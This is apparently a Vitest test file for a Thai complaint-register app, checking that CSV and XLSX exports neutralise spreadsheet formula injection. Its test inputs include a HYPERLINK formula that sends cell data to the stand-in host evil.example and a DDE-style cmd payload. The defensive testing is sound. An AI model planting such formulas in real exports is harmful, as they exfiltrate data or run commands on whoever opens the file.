import ExcelJS from 'exceljs';
import { describe, expect, it } from 'vitest';
import { csvCell, toCsv, toXlsx } from './register-export.js';
import { itaCsv } from './report.service.js';

/** Issue 9, item 15: no cell of a CSV the app writes starts a formula (OWASP, "CSV Injection"). */
describe('CSV cells a spreadsheet would run as formulas', () => {
  it('gets a single quote before =, +, -, @, tab and carriage return, and stays quoted', () => {
    expect(csvCell('=HYPERLINK("http://evil.example/?"&A1,"ดูรายละเอียด")')).toBe(
      `"'=HYPERLINK(""http://evil.example/?""&A1,""ดูรายละเอียด"")"`,
    );
    expect(csvCell("+cmd|' /C calc'!A0")).toBe(`"'+cmd|' /C calc'!A0"`);
    expect(csvCell('-2+3')).toBe(`"'-2+3"`);
    expect(csvCell('@SUM(A1:A9)')).toBe(`"'@SUM(A1:A9)"`);
    expect(csvCell('\t=1+1')).toBe(`"'\t=1+1"`);
    expect(csvCell('\r=1+1')).toBe(`"'\r=1+1"`);
    // OWASP makes no exception for a lone minus or a negative number: neither do we.
    expect(csvCell('-')).toBe(`"'-"`);
  });

  it('leaves every other cell as it was', () => {
    for (const value of ['12/2569', 'เรียกรับเงิน = ผิดวินัย', ' =not first', '', "'quoted", '0812345678']) {
      expect(csvCell(value)).toBe(`"${value.replaceAll('"', '""')}"`);
    }
  });

  it('is the one cell writer of every CSV: the register, the statistics and the ITA publication', () => {
    expect(toCsv([['=1+1', 'ok']])).toBe(`\uFEFF"'=1+1","ok"\r\n`);
    const figures = { received: 0, completed: 0, inProgress: 0 };
    const csv = itaCsv({
      fiscalYear: 2569,
      organisationTh: 'อบต.ทดลอง',
      firstHalf: figures,
      wholeYear: figures,
      noComplaints: true,
      textTh: '=ไม่มี',
      textEn: '',
    });
    expect(csv).toContain(`"'=ไม่มี"`);
  });

  it('keeps XLSX safe without quotes: a formula-like text is a string cell, never a formula', async () => {
    const workbook = new ExcelJS.Workbook();
    const bytes = await toXlsx([['เรื่อง'], ['=HYPERLINK("http://evil.example","x")'], ['@SUM(A1)']], 'ทะเบียน');
    await workbook.xlsx.load(bytes.buffer.slice(bytes.byteOffset, bytes.byteOffset + bytes.byteLength) as ArrayBuffer);
    const sheet = workbook.worksheets[0];
    for (const row of [2, 3]) {
      const cell = sheet.getRow(row).getCell(1);
      expect(cell.type).toBe(ExcelJS.ValueType.String);
      expect(cell.formula).toBeUndefined();
    }
    expect(sheet.getRow(2).getCell(1).value).toBe('=HYPERLINK("http://evil.example","x")');
  });
});
